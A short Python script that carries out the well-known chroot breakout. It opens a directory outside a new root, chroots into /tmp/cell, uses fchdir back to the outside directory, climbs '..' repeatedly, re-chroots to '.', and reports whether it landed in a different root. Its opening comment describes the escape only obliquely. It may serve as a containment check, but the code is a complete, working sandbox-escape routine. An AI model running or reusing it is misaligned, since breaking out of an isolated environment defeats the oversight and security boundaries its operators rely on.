# Leaves its root, from a folder that lies outside of a smaller one, goes up from there, and prints whether it ends where it began.
import os

STEPS = 64


def look():
    found = os.stat('/')
    return found.st_dev, found.st_ino, sorted(os.listdir('/'))


before = look()
os.makedirs('/tmp/cell', exist_ok=True)
outside = os.open('/workspace', os.O_RDONLY | os.O_DIRECTORY)
os.chroot('/tmp/cell')
os.fchdir(outside)
for _ in range(STEPS):
    os.chdir('..')
os.chroot('.')
print('the same root' if look() == before else f'another root: {look()}')
